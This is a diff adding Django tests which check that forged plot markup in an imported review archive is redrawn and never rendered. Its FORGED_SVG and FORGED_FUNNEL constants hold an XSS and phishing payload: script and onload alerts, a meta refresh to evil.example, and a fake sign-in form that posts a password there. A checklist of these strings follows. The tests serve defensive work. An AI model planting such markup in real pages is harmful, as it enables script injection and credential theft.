@@ -834,3 +834,72 @@ def test_a_huge_line_is_refused_inside_a_bounded_address_space(tmp_path):
     assert api[0] == 400 and "ARCHIVE_MAX_LINE_MB" in api[1]
     assert result["reviews"] == 0 and result["people"] == 1  # nothing stayed: not even the archive's person
     assert result["peak_rss_mb"] < 500, result["peak_rss_mb"]
+
+
+# ---------------------------------------------------------------- plots are ours, never the archive's
+
+FORGED_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
+              '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>'
+              '<foreignObject width="10" height="10"><form xmlns="http://www.w3.org/1999/xhtml" '
+              'action="https://evil.example/sign-in"><input name="password"/></form></foreignObject>'
+              '<script>alert(1)</script><style>body{display:none}</style>'
+              '<a href="https://evil.example/"><text>Sign in again</text></a></svg>')
+FORGED_FUNNEL = '<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/">'
+
+
+def _forged_plots(rows):
+    for row in rows:
+        row["forest_svg"], row["funnel_svg"] = FORGED_SVG, FORGED_FUNNEL
+    return rows
+
+
+def _shows_nothing_forged(html: str) -> None:
+    for forged in ("evil.example", "http-equiv", 'name="password"', "alert(1)", "foreignObject", "display:none",
+                   "Sign in again"):
+        assert forged not in html, forged
+
+
+@pytest.mark.parametrize("path", ["page", "api"])
+def test_forged_plots_in_an_archive_are_drawn_again_from_the_runs_numbers(world, people, client_for, path):
+    original = AnalysisRun.objects.get(analysis__review=world)
+    data = _rewritten(_archive(world), _lines_changed("analysis.AnalysisRun", _forged_plots))
+    client = client_for(people["outsider"])
+    copy, _ = _import_as(client, path, data)
+    assert copy is not None
+    run = AnalysisRun.objects.get(analysis__review=copy)
+    # Our renderer's plots of the same numbers, not the archive's markup.
+    assert run.forest_svg == original.forest_svg and run.funnel_svg == original.funnel_svg
+    assert run.forest_svg.count('class="study-marker"') == run.results["summary"]["k"]
+    for url in (reverse("analysis_detail", args=[copy.pk, run.analysis_id]),
+                reverse("analysis_run_results", args=[copy.pk, run.pk])):
+        response = client.get(url)
+        assert response.status_code == 200
+        html = response.content.decode()
+        marker = 'class="study-marker"'
+        assert html.count(marker) == run.forest_svg.count(marker) + run.funnel_svg.count(marker) > 0
+        _shows_nothing_forged(html)
+
+
+def test_a_run_whose_archived_inputs_cannot_be_drawn_arrives_without_plots(world, people):
+    def unreadable(rows):
+        for row in _forged_plots(rows):
+            row["inputs"] = {**row["inputs"], "studies": [{"label": "x"}]}
+        return rows
+    data = _rewritten(_archive(world), _lines_changed("analysis.AnalysisRun", unreadable))
+    copy = review_archive_import(source=io.BytesIO(data), actor=people["outsider"], owner=people["outsider"],
+                                 trusted=False)
+    run = AnalysisRun.objects.get(analysis__review=copy)
+    assert run.status == AnalysisRun.Status.DONE and run.forest_svg == "" and run.funnel_svg == ""
+
+
+def test_a_forged_plot_stored_by_any_means_never_reaches_the_page(world, people, client_for):
+    """The page does not rely on the importer: whatever text a run's plot fields hold, the page
+    shows only markup reviewapp.svg_markup writes."""
+    run = AnalysisRun.objects.get(analysis__review=world)
+    drawn = run.forest_svg
+    forged_inside = drawn.replace("</svg>", FORGED_SVG[FORGED_SVG.index(">") + 1:])  # our plot with the forgery in it
+    AnalysisRun.objects.filter(pk=run.pk).update(forest_svg=forged_inside, funnel_svg=FORGED_FUNNEL)
+    page = reverse("analysis_detail", args=[world.pk, run.analysis_id])
+    html = client_for(people["viewer"]).get(page).content.decode()
+    _shows_nothing_forged(html)
+    assert html.count('class="study-marker"') == drawn.count('class="study-marker"')  # our drawing stays whole
